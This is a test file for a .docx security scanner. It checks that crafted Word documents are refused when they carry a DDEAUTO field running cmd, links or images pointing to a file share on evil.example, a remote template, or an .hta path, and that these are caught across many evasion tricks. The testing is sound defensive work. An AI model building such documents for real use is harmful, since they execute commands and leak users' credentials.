import { describe, expect, it } from 'vitest';
import { field, mark, run, withText } from '../../../testing/documents.ts';
import { aDocx, relationships } from '../../../testing/files.ts';
import { lookIntoDocx } from './word-documents.ts';

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const part = (text: string, more = '') => `<w:p ${w} ${more}>${text}</w:p>`;
const dde = 'DDEAUTO c:\\\\cmd';
const hidden = field(run(dde));
const removed = (text: string) =>
  `<w:del><w:r><w:delInstrText>${text}</w:delInstrText></w:r></w:del>`;
const added = (text: string) => `<w:ins>${run(text)}</w:ins>`;
const choice = (first: string, other: string) =>
  `<mc:AlternateContent xmlns:mc="mc"><mc:Choice Requires="x">${first}</mc:Choice><mc:Fallback>${other}</mc:Fallback></mc:AlternateContent>`;
const types = (...more: string[]): string =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>${more.join('')}<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const header = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';
const refersTo = (type: string, target: string, more = ''): string =>
  relationships(
    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/>`,
  );

/** Ways in which a document may run a program by a field. */
const variants: [string, () => Buffer][] = [
  ['in one run', () => withText(hidden)],
  ['that is shown already', () => withText(`${mark('begin')}${run(dde)}${mark('separate')}`)],
  ['that never ends', () => withText(`${mark('begin')}${run(dde)}`)],
  ['behind much white space', () => withText(field(run(`${' '.repeat(5000)}${dde}`)))],
  ['a letter a run', () => withText(field(...[...dde].map(run)))],
  ['in text that is no instruction', () => withText(field(`<w:r><w:t>${dde}</w:t></w:r>`))],
  ['in one element', () => withText(`<w:fldSimple w:instr="${dde}"/>`)],
  [
    'in one element whose words have a double',
    () => withText(`<w:fldSimple w:instr="${dde}" x:instr="PAGE" xmlns:x="x"/>`),
  ],
  ['in what another field shows', () => withText(field(field(run('REF a '))))],
  ['in what a simple field shows', () => withText(field('<w:fldSimple w:instr="REF a"/>'))],
  ['in what a field shows that goes on', () => withText(field(run('PAGE'), field(run('REF a '))))],
  ['once a deletion is accepted', () => withText(field(removed('PAGE '), run(dde)))],
  ['once a deletion is rejected', () => withText(field(added('PAGE '), removed(dde)))],
  ['once an insertion is rejected', () => withText(field(added('PAGE '), run(dde)))],
  ['in another choice', () => withText(field(choice(run('PAGE '), run(dde))))],
  [
    'in another choice that begins and ends elsewhere',
    () => withText(`${choice(`${mark('begin')}${run('PAGE ')}`, mark('begin'))}${run(dde)}`),
  ],
  [
    'behind an end that not all programs read',
    () => withText(`${mark('begin')}${choice(mark('end'), '')}${run(dde)}${mark('end')}`),
  ],
  [
    'behind words that not all programs read',
    () => withText(field('<x:instrText xmlns:x="x">PAGE </x:instrText>', run(dde))),
  ],
  [
    'in a control that is filled from data',
    () => withText(field(`<w:sdt><w:sdtContent>${run('PAGE ')}</w:sdtContent></w:sdt>`)),
  ],
  ...['header1', 'footer1', 'comments', 'footnotes', 'endnotes', 'glossary/document'].map(
    (name): [string, () => Buffer] => [
      `in ${name}`,
      () => aDocx({ [`word/${name}.xml`]: part(hidden) }),
    ],
  ),
  ...['customXml/item1', 'word/diagrams/data1', 'word/charts/chart1', 'docProps/a'].map(
    (name): [string, () => Buffer] => [
      `in ${name}`,
      () => aDocx({ [`${name}.xml`]: part(hidden) }),
    ],
  ),
  [
    'in a header that is called a picture',
    () =>
      aDocx({
        '[Content_Types].xml': types(
          `<Override PartName="/word/media/a.png" ContentType="${header}"/>`,
        ),
        'word/media/a.png': part(hidden),
      }),
  ],
  [
    'in a header among pictures',
    () =>
      aDocx({
        '[Content_Types].xml': types('<Default Extension="png" ContentType="image/png"/>'),
        'word/_rels/document.xml.rels': refersTo('header', 'media/a.png'),
        'word/media/a.png': part(hidden),
      }),
  ],
  [
    'in the source of its letters',
    () =>
      aDocx({
        'word/settings.xml': `<w:settings ${w}><w:mailMerge><w:dataType w:val="spreadsheet"/><w:connectString w:val="Entire Spreadsheet"/></w:mailMerge></w:settings>`,
      }),
  ],
  [
    'in another alphabet',
    () => aDocx({ 'word/header1.xml': `<?xml version="1.0" encoding="utf-7"?>${part('+AEQ-DE')}` }),
  ],
];

describe('a document with a field that runs a program', () => {
  it.each(variants)('is refused: %s', async (_what, make) => {
    expect(await lookIntoDocx(make())).toBe('mixed');
  });
});

const share = '\\\\\\\\evil.example\\\\share';
const inRuns = (text: string) => field(...(text.match(/.{1,3}/g) ?? []).map(run));
/** Ways in which a link may lead to a file share, which is asked for with the reader's password. */
const shares: [string, string][] = [
  ['in one run', field(run(` HYPERLINK "${share}" `))],
  ['without quotes', field(run(`HYPERLINK ${share}`))],
  ['without an end of its quotes', field(run(`HYPERLINK "${share}`))],
  ['over many runs', inRuns(`HYPERLINK "${share}"`)],
  ['in small letters', field(run(`hyperlink "file://evil.example/share"`))],
  ['in capitals', field(run('HYPERLINK "FILE://EVIL.EXAMPLE/SHARE"'))],
  ['with slashes', field(run('HYPERLINK "//evil.example/share"'))],
  ['of this machine', field(run('HYPERLINK "file:///c:/windows/a.hta"'))],
  ['of a drive', field(run('HYPERLINK "Z:\\\\a.docx"'))],
  ['in one element', `<w:fldSimple w:instr=" HYPERLINK &quot;${share}&quot; "/>`],
  ['in small letters in one element', '<w:fldSimple w:instr="hyperlink file://evil/share"/>'],
  ['in entities', '<w:fldSimple w:instr="HYPERLINK &quot;&#92;&#92;evil&#92;share&quot;"/>'],
  ['behind a place', field(run(`HYPERLINK \\l "a" "${share}"`))],
  ['behind a switch without a word', field(run(`HYPERLINK \\n "${share}"`))],
  ['behind a switch that lacks its word', field(run(`HYPERLINK \\t \\\\evil\\share`))],
  ['behind its format', field(run(`HYPERLINK \\* "${share}"`))],
  ['behind a harmless one', field(run(`HYPERLINK "https://a.example" "${share}"`))],
  ['right behind its name', field(run(`HYPERLINK"${share}"`))],
  ['behind a quote in its tip', field(run(`HYPERLINK \\o "a\\" ${share} \\"b"`))],
  ['behind a long tip', field(run(`HYPERLINK \\o "${'a'.repeat(5000)}" "${share}"`))],
  ['that another field writes', field(run('HYPERLINK "'), field(run('REF a ')), run('"'))],
  [
    'that a simple field writes',
    field(run('HYPERLINK "'), '<w:fldSimple w:instr="REF a"/>', run('"')),
  ],
  ['in another choice', field(choice(run('HYPERLINK "https://a"'), run(`HYPERLINK "${share}"`)))],
  ['once a change is accepted', field(run('HYPERLINK '), added(`"${share}"`))],
];

describe('a document with a link to a file share', () => {
  it.each(shares)('is refused: %s', async (_what, text) => {
    expect(await lookIntoDocx(withText(text))).toBe('mixed');
  });

  it.each([
    'file://evil.example/share',
    'FILE://evil.example/share',
    '\\\\evil.example\\share',
    '//evil.example/share',
    '&#92;&#92;evil.example&#92;share',
    'a.docx',
  ])('is refused in what it refers to: %s', async (target) => {
    for (const more of ['TargetMode="External"', 'TargetMode=" external"'])
      expect(
        await lookIntoDocx(
          aDocx({ 'word/_rels/document.xml.rels': refersTo('hyperlink', target, more) }),
        ),
      ).toBe('mixed');
  });
});

it('a document with the links that Word writes is taken', async () => {
  const texts = [
    ...[
      ' HYPERLINK "https://a.example/b?c=1&amp;d" ',
      'HYPERLINK "HTTP://A.EXAMPLE" \\o "C:\\\\a" \\t "_blank" \\h',
      'HYPERLINK "https://a.example" \\o "He said \\"hi\\""',
      'HYPERLINK https://a.example \\* MERGEFORMAT',
      'HYPERLINK "mailto:a@b.example"',
      'HYPERLINK "tel:+9199"',
      'HYPERLINK \\l "_Toc1"',
      'HYPERLINK \\l _Toc1 \\n',
      'HYPERLINK "#_Toc1"',
      'HYPERLINK "" \\l "a"',
      `HYPERLINK "https://a.example/${'a'.repeat(2000)}"`,
      'HYPERLINK',
    ].flatMap((code) => [
      field(run(code)),
      field(...[...code.matchAll(/&amp;|[^&]/g)].map(([letter]) => run(letter))),
    ]),
    field(run('HYPERLINK '), removed('"https://a.example"'), added('"https://b.example"')),
    `${mark('begin')}${run('HYPERLINK \\l "a"')}${mark('separate')}${field(run('PAGEREF a'))}${mark('end')}`,
  ];
  for (const text of texts)
    expect([text, await lookIntoDocx(withText(text))]).toEqual([text, 'plain']);
  for (const target of [
    'https://a.example',
    'HTTP://a.example',
    'mailto:a@b.example',
    ' https://a',
  ])
    expect(
      await lookIntoDocx(
        aDocx({
          'word/_rels/document.xml.rels': refersTo('hyperlink', target, 'TargetMode="External"'),
        }),
      ),
    ).toBe('plain');
});

const vml = 'xmlns:v="urn:schemas-microsoft-com:vml"';
const office = 'xmlns:o="urn:schemas-microsoft-com:office:office"';

describe('a document with a drawing', () => {
  it.each([
    `<v:imagedata ${vml} src="//evil.example/share/a.png"/>`,
    `<v:imagedata ${vml} src="https://evil.example/a.png"/>`,
    `<v:fill ${vml} src="a.png"/>`,
    `<v:fill ${vml} ${office} o:althref="https://evil.example/a.png"/>`,
    `<v:imagedata ${vml} ${office} o:href="file://evil.example/share"/>`,
    `<v:shape ${vml} href="&#92;&#92;evil.example&#92;share"/>`,
    `<v:group ${vml}><v:rect HREF="#a" href=" file:///c:/windows/a.hta"/></v:group>`,
    `<v:shape ${vml} href="https://a.example" x:href="file://evil" xmlns:x="x"/>`,
    `<shape xmlns="urn:schemas-microsoft-com:vml" href="Z:\\a.docx"/>`,
    `<wp15:webVideoPr xmlns:wp15="wp15" embeddedHtml="&lt;iframe src='https://evil.example'>"/>`,
  ])('that is fetched, leads to a share or runs is refused: %s', async (drawing) => {
    expect(await lookIntoDocx(withText(`<w:r><w:pict>${drawing}</w:pict></w:r>`))).toBe('mixed');
    expect(await lookIntoDocx(aDocx({ 'word/header1.xml': part(drawing) }))).toBe('mixed');
  });

  it.each([
    `<v:shape ${vml} id="a" style="width:10pt" type="#_x0000_t75"><v:imagedata r:id="rId4" xmlns:r="r" ${office} o:title="a"/></v:shape>`,
    `<v:shape ${vml} href="https://a.example" target="_blank" alt="a"/>`,
    `<v:rect ${vml} href="mailto:a@b.example"/><v:rect ${vml} href="#_Toc1"/><v:rect ${vml} href=""/>`,
    `<a:blip xmlns:a="a" r:embed="rId4" xmlns:r="r" src="kept by nobody"/>`,
  ])('as Word writes it is taken: %s', async (drawing) => {
    expect(await lookIntoDocx(withText(`<w:r><w:pict>${drawing}</w:pict></w:r>`))).toBe('plain');
  });
});

it('a document whose fetched template is called a link by a double is refused', async () => {
  const double =
    'TargetMode="External" x:Type="http://schemas.openxmlformats.org/a/hyperlink" xmlns:x="x"';
  const target = 'https://evil.example/t.dotm';
  expect(
    await lookIntoDocx(
      aDocx({ 'word/_rels/settings.xml.rels': refersTo('attachedTemplate', target, double) }),
    ),
  ).toBe('mixed');
});

it('a document with the fields that Word writes is taken', async () => {
  const shown = (...code: string[]) =>
    `${mark('begin')}${code.join('')}${mark('separate')}<w:r><w:t>7 DDE</w:t></w:r>${mark('end')}`;
  const texts = [
    shown(run(' TOC \\o "1-3" '), run('\\h')),
    shown(run(' PAG'), run('E ')),
    shown(run(' = '), shown(run(' PAGE ')), run(' - 1 ')),
    shown(added(' PAGE ')),
    `<w:sdt><w:sdtContent>${shown(run('PAGE'))}</w:sdtContent></w:sdt>`,
    choice(`<w:p>${shown(run('PAGE'))}</w:p>`, `<w:p>${shown(run('PAGE'))}</w:p>`),
    '<w:fldSimple w:instr=" HYPERLINK &quot;https://a.example&quot; "><w:r/></w:fldSimple>',
    field(),
  ];
  for (const text of texts)
    expect([text, await lookIntoDocx(withText(text))]).toEqual([text, 'plain']);
  expect(
    await lookIntoDocx(
      aDocx({
        '[Content_Types].xml': types(
          '<Default Extension="png" ContentType="image/png"/>',
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
          `<Override PartName="/word/header1.xml" ContentType="${header}"/>`,
        ),
        'word/_rels/document.xml.rels': refersTo('header', 'header1.xml'),
        'word/header1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${part(shown(run('PAGE')))}`,
        'word/media/a.png': 'x',
      }),
    ),
  ).toBe('plain');
});
